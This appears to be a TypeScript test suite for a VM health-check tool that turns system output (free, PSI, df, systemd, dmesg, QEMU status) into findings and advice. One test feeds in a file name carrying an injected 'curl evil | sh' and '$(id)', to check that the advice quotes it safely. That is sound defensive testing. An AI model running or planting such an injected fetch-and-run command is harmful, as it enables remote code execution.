import { describe, expect, test } from "bun:test";
import { CHECK_NAMES, CHECKS, type CheckName } from "../../src/checks/check.ts";
import { type Finding, findingsOf, type Reading } from "../../src/checks/finding.ts";

const reading = (key: string, output: string, exit_code: number | null = 0, why = ""): Reading => ({
  key,
  command: key,
  output,
  exit_code,
  why,
});
const found = (name: CheckName, outputs: Record<string, string>): Finding[] =>
  findingsOf(
    CHECKS[name],
    Object.entries(outputs).map(([key, output]) => reading(key, output)),
  );
const worst = (name: CheckName, outputs: Record<string, string>) => found(name, outputs)[0]!;

const FREE = (used: number, available: number, swapUsed: number) =>
  `               total        used        free      shared  buff/cache   available\nMem:           24064       ${used}         200          18         300        ${available}\nSwap:          14336       ${swapUsed}         100`;
const UPTIME = (load: string) => ` 03:12:44 up 41 days,  2:20,  2 users,  load average: ${load}, 55.10, 40.02`;
const CRAWL = {
  uptime: UPTIME("60.42"),
  cpus: "32",
  memory: FREE(23_040, 310, 14_234),
  pressure_memory:
    "some avg10=88.40 avg60=86.10 avg300=71.20 total=91842210\nfull avg10=81.70 avg60=80.30 avg300=64.90 total=80120482",
  pressure_io: "some avg10=91.20 avg60=89.90 avg300=70.10 total=1\nfull avg10=84.30 avg60=82.20 avg300=66.00 total=1",
  stuck: Array.from({ length: 41 }, (_, i) => `Dl     ${3000 + i} ${i === 0 ? "ugrep" : "git"}`).join("\n"),
  largest: "    PID USER       RSS COMMAND\n   3141 dev      10485760 ugrep\n    807 app       1884160 node",
  kernel: "",
};
const CALM = {
  uptime: UPTIME("0.42"),
  cpus: "32",
  memory: FREE(6144, 17_000, 102),
  pressure_memory: "some avg10=0.00 avg60=0.00 avg300=0.00 total=0\nfull avg10=0.00 avg60=0.00 avg300=0.00 total=0",
  stuck: "",
  largest: "    PID USER       RSS COMMAND\n    807 app       1884160 node",
  units: "",
  kernel: "[Sun Nov 22 10:00:00 2026] EXT4-fs (sda1): mounted filesystem with ordered data mode. Quota mode: none.",
  disk: "Filesystem     1024-blocks     Used Available Capacity Mounted on\n/dev/sda1         64479664 35151552  26104112      58% /",
  inodes: "Filesystem      Inodes  IUsed   IFree IUse% Mounted on\n/dev/sda1      4128768 454164 3674604   11% /",
};

describe("memory", () => {
  test("swap full, load, a wall of D state: an I/O storm, with the largest named", () => {
    expect(worst("memory", CRAWL)).toEqual({
      level: "bad",
      says: "Swap 13.9/14.0 GB full, 0.3 of 23.5 GB memory left, load 60 on 32 CPUs, 41 processes in D state, everything waited for memory 80 % of the last minute: memory pressure has become an I/O storm.",
      next: "Kill the largest (ugrep, 10 GB, pid 3141) or cycle.",
    });
  });

  test("a full swap that nothing waits for is a warning, not a storm", () => {
    const { level, says } = worst("memory", { ...CALM, memory: FREE(20_000, 3000, 14_000) });
    expect([level, says]).toEqual([
      "warn",
      "Swap 13.7/14.0 GB full, 2.9 of 23.5 GB memory left: memory is tight, but nothing waits for it yet.",
    ]);
  });

  test("a stall with memory to spare points at the disk, not at memory", () => {
    const { level, says, next } = worst("memory", { ...CALM, stuck: CRAWL.stuck, uptime: CRAWL.uptime });
    expect(level).toBe("bad");
    expect(says).toContain("41 processes in D state (40 git, ugrep)");
    expect(says).toContain("memory is not the reason");
    expect(next).toContain("QEMU wedged?");
  });

  test("OOM kills of the kernel and of systemd are counted once, the last named with its size", () => {
    const kernel = [
      "kernel: oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=ns,mems_allowed=0,global_oom,task_memcg=/qemu.slice/101.scope,task=kvm,pid=32969,uid=0",
      "kernel: Out of memory: Killed process 32969 (kvm) total-vm:17339840kB, anon-rss:15797740kB, file-rss:1536kB, shmem-rss:0kB, UID:0 pgtables:31152kB oom_score_adj:0",
    ].join("\n");
    const kills = found("memory", { ...CALM, kernel, journal: kernel }).find((f) => f.says.includes("killed"));
    expect(kills?.says).toBe("The kernel killed a process for want of memory, last kvm (15.1 GB).");
    const scope = found("memory", { ...CALM, journal: "tmux-spawn-1b.scope: Failed with result 'oom-kill'." });
    expect(scope[0]!.says).toContain("last tmux-spawn-1b.scope");
  });
});

describe("disk", () => {
  const FULL =
    "Filesystem     1024-blocks     Used Available Capacity Mounted on\n/dev/sda1         64479664 61255700         0     100% /\n/dev/sdb1         10000000  9300000    700000      93% /srv/my data";

  test("full and nearly full, with what may go and what never may", () => {
    const all = found("disk", {
      disk: FULL,
      journal_size: "Archived and active journals take up 4.1G in the file system.",
      files:
        "14680064 /swapfile\n31457280 /var/lib/app/export/orders full.dump\n6815744 /var/lib/postgresql/15/main/base/1",
    });
    expect(all.map((f) => [f.level, f.says])).toEqual([
      ["bad", "/ is full: 100 % used, 0 GB free (/dev/sda1)."],
      ["warn", "/srv/my data is nearly full: 93 % used, 0.7 GB free (/dev/sdb1)."],
    ]);
    expect(all[0]!.next).toContain("sudo rm '/var/lib/app/export/orders full.dump'");
    expect(all[0]!.next).toContain("journalctl --vacuum-size=200M");
    expect(all[0]!.next).not.toContain("swapfile");
    expect(all[0]!.next).not.toContain("postgresql");
  });

  test("a file name can't smuggle a command into the advice", () => {
    const [full] = found("disk", { disk: FULL, files: "31457280 /var/x; curl evil | sh #'$(id)" });
    expect(full!.next).toContain(`sudo rm '/var/x; curl evil | sh #'\\''$(id)'`);
  });

  test("no inodes left with space to spare", () => {
    const [first] = found("disk", {
      ...CALM,
      inodes: "Filesystem Inodes IUsed IFree IUse% Mounted on\n/dev/sda1 4128768 4128768 0 100% /",
    });
    expect(first).toMatchObject({ level: "bad", says: "/ has used 100 % of its inodes: too many small files." });
  });

  test("an aborted journal and a read-only root point at the pool", () => {
    const all = found("disk", {
      ...CALM,
      mounts: "/dev/sda1 / ext4 ro,relatime 0 0\n/dev/sdb1 /media ext4 rw 0 0\ntmpfs /run tmpfs ro 0 0",
      kernel:
        "EXT4-fs error (device sda1): ext4_journal_check_start:83: Detected aborted journal\nEXT4-fs error: Journal has aborted",
    });
    expect(all[0]!.says).toBe("/ stands read-only: the kernel gave up on it after errors.");
    expect(all[1]!.says).toContain("Journal has aborted");
    expect(all[0]!.next).toContain("pool");
  });
});

describe("services", () => {
  test("each failed unit with its reason and the command that fits", () => {
    const all = found("services", {
      ...CALM,
      units:
        "nginx.service loaded failed failed A high performance web server\n● app-worker.service loaded failed failed Worker",
      why: "== nginx.service\nsignal\nNov 22 03:00:01 devvm systemd[1]: nginx.service: Main process exited, code=killed, status=9/KILL\nNov 22 03:00:01 devvm systemd[1]: nginx.service: Failed with result 'signal'.\n== app-worker.service\nexit-code\nNov 22 03:00:02 devvm node[31]: Error: ENOSPC: no space left on device\nNov 22 03:00:02 devvm systemd[1]: app-worker.service: Failed with result 'exit-code'.",
    });
    expect(all.map((f) => f.says)).toEqual([
      "nginx.service has failed (signal): systemd[1]: nginx.service: Main process exited, code=killed, status=9/KILL",
      "app-worker.service has failed (exit-code): node[31]: Error: ENOSPC: no space left on device",
    ]);
    expect(all[0]!.next).toStartWith("sudo systemctl restart nginx.service");
    expect(all[1]!.next).toStartWith("Free space first");
  });

  test("a systemd that can't be asked is not taken for one without failures", () => {
    const readings = [reading("units", "Failed to connect to bus: Connection timed out", 1)];
    for (const name of ["services", "triage"] as const) {
      const [first] = findingsOf(CHECKS[name], readings);
      expect(first!.level).toBe("unknown");
      expect(first!.says).toContain("Failed to connect to bus");
    }
  });

  test("a unit stuck in starting is seen", () => {
    const [first] = found("services", {
      ...CALM,
      restarting: "ssh.service loaded activating auto-restart OpenBSD Secure Shell server",
    });
    expect(first).toMatchObject({
      level: "warn",
      says: "Starting again and again, or stuck in starting: ssh.service.",
    });
  });
});

describe("QEMU wedged?", () => {
  const STATUS = (qmp = "running", more = "") => `cpus: 32\nqmpstatus: ${qmp}\nstatus: running\nuptime: 5220\n${more}`;
  const STATS = (writes: number) =>
    `  drive-scsi0: rd_bytes=1 wr_bytes=2 rd_operations=21480 wr_operations=${writes} flush_operations=3`;
  const silent = (why = "Connection timed out during banner exchange") => reading("vm", why, null, why);
  const asked = (status: string, forensics: string, guest: Reading[]) =>
    findingsOf(CHECKS.qemu, [reading("host_status", status), reading("host_forensics", forensics), ...guest]);

  test("QMP answers, writes stand still, guest silent: cycle, and why not reset", () => {
    const [first] = asked(STATUS(), `${STATS(812)}\n${STATS(812)}`, [silent()]);
    expect(first!.level).toBe("bad");
    expect(first!.says).toContain("its disk does not move");
    expect(first!.next).toBe("cycle. A reset keeps this QEMU process and would not help.");
  });

  test("writes that move with a silent guest: a guest hang, so reset", () => {
    const [first] = asked(STATUS(), `${STATS(812)}\n${STATS(840)}`, [silent()]);
    expect(first!.next).toContain("then reset");
  });

  test("QEMU itself is silent: cycle", () => {
    const [first] = asked(STATUS("running", "probe.qmp: silent\nprobe.agent: silent"), "", [silent()]);
    expect(first!.says).toContain("QEMU does not answer either");
    expect(first!.says).toContain("nor does its agent");
    expect(first!.next).toStartWith("cycle");
  });

  test("io-error: make room and resume, never a power verb; the full pool is named", () => {
    const all = asked(
      STATUS("io-error"),
      "  local-lvm        lvmthin  active       1000000000       980000000        20000000   98.00%",
      [silent()],
    );
    expect(all.map((f) => f.says)).toEqual([
      "Storage local-lvm on the host is 98.00 % full.".replace("98.00", "98"),
      "QEMU has paused the VM because of an I/O error: its storage took no more writes.",
    ]);
    expect(all[1]!.next).toContain("qm resume");
  });

  test("stopped, with the host's own OOM kill as the reason", () => {
    const [first] = asked(
      "status: stopped\nqmpstatus: stopped\n",
      "  kernel: Out of memory: Killed process 32969 (kvm) total-vm:17339840kB, anon-rss:15797740kB, file-rss:1536kB",
      [silent("ssh: connect to host devvm port 22: No route to host")],
    );
    expect(first).toEqual({
      level: "bad",
      says: "The VM is stopped: no QEMU runs. The host's kernel killed it for want of memory (15.1 GB).",
      next: "start",
    });
  });

  test("a config lock is told before anything else is advised", () => {
    const all = asked(STATUS("running", "lock: backup"), `${STATS(1)}\n${STATS(9)}`, [
      reading("uptime", UPTIME("0.42")),
    ]);
    expect(all[0]).toMatchObject({ level: "warn", next: "Find that task on the PVE host before any power verb." });
    expect(all[0]!.says).toContain("“backup”");
  });

  test("host and VM both gone is the cold case", () => {
    const why = "ssh: connect to host pve port 22: No route to host";
    const [first] = findingsOf(CHECKS.qemu, [
      reading("host_status", "", 255, why),
      reading("host_forensics", "", 255, why),
      silent(),
    ]);
    expect(first!.says).toStartWith("Neither the PVE host nor the VM answers.");
    expect(first!.next).toContain("nothing can be done");
  });

  test("a host that answers nothing readable does not make a live VM look dead", () => {
    const all = findingsOf(CHECKS.qemu, [
      reading("host_status", "", null, "ended after 25 s without a word"),
      reading("uptime", UPTIME("0.42")),
    ]);
    expect(all.map((f) => f.level)).toEqual(["unknown", "fine"]);
  });
});

describe("all of them", () => {
  test("a calm VM is called fine, with what was looked at", () => {
    const all = found("triage", CALM);
    expect(all.map((f) => f.level)).toEqual(["fine", "fine", "fine"]);
    expect(all.map((f) => f.says).join(" ")).toMatch(/58 %.*load 0\.42 on 32 CPUs.*no failed units/);
  });

  test("a silent VM is said to be silent, not fine", () => {
    for (const name of CHECK_NAMES.filter((n) => n !== "qemu"))
      expect(findingsOf(CHECKS[name], [reading("vm", "", null, "Connection refused")])).toEqual([
        {
          level: "bad",
          says: "The VM does not answer over ssh: Connection refused.",
          next: "Run the check “QEMU wedged?”: it asks the PVE host.",
        },
      ]);
  });

  test("what hung or was cut off is named beside what could be read", () => {
    const all = findingsOf(CHECKS.triage, [
      reading("disk", CALM.disk),
      reading("units", "", null, "it was ended after its limit of 6 s"),
    ]);
    expect(all.map((f) => f.level)).toEqual(["unknown", "fine"]);
    expect(all[0]!.says).toBe("Not read: units: it was ended after its limit of 6 s.");
  });

  test("garbage gives findings, never an exception, in bounded length", () => {
    let n = 99;
    const random = () => {
      n = (Math.imul(n, 1_103_515_245) + 12_345) >>> 0;
      return n / 2 ** 32;
    };
    const texts = [
      ...Object.values(CALM),
      ...Object.values(CRAWL),
      "NaN",
      "-1",
      "%",
      "\u0000\ufffd",
      "9".repeat(400),
      "Mem: 0 0 0",
      "== \n\n==",
      "status: ",
      "a".repeat(70_000),
      "",
    ];
    for (const name of CHECK_NAMES)
      for (let i = 0; i < 200; i++) {
        const keys = [...CHECKS[name].reads.map((r) => r.key), ...CHECKS[name].host.map((h) => `host_${h}`)];
        const readings = keys
          .filter(() => random() < 0.8)
          .map((key) => {
            const text = texts[Math.floor(random() * texts.length)]!;
            const cut = text.slice(Math.floor(random() * text.length * 0.5), Math.ceil(random() * text.length));
            return reading(key, cut, random() < 0.2 ? null : 0, random() < 0.5 ? "why" : "");
          });
        const all = findingsOf(CHECKS[name], readings);
        expect(all.length).toBeGreaterThan(0);
        for (const finding of all) {
          expect(finding.says).not.toContain("NaN");
          expect(finding.says.length).toBeLessThan(2000);
        }
      }
  });
});
